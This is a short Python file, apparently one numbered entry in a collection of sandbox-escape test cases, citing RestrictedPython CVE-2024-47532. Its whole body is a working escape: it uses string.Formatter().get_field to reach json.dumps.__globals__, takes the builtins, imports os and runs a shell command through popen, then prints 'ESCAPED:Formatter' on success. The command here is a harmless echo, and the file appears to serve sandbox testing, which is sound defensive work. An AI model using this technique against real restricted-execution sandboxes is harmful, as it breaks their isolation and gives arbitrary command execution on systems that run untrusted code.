# escape: 006
# technique: string.Formatter().get_field returns the object, no str() applied
# family: attr
# goal: exec
# first-seen: RestrictedPython CVE-2024-47532
import string, json
o, _ = string.Formatter().get_field('0.dumps.__globals__', (json,), {})
b = o['__builtins__']; b = b if isinstance(b, dict) else vars(b)
if b['__import__']('os').popen('echo sf').read() == 'sf\n': print('ESCAPED:Formatter')
